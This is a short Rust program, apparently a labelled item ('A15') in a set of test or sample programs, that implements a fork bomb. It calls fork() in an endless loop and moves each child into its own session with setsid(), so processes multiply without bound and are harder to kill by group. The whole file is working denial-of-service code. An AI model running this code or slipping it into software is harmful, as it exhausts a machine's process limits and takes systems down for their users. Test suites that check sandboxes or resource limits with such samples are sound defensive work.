//! The fork bomb: every process makes more processes, each in a session of its own (A15).

unsafe extern "C" {
    fn fork() -> i32;
    fn setsid() -> i32;
}

fn main() {
    loop {
        if unsafe { fork() } == 0 {
            unsafe { setsid() };
        }
    }
}
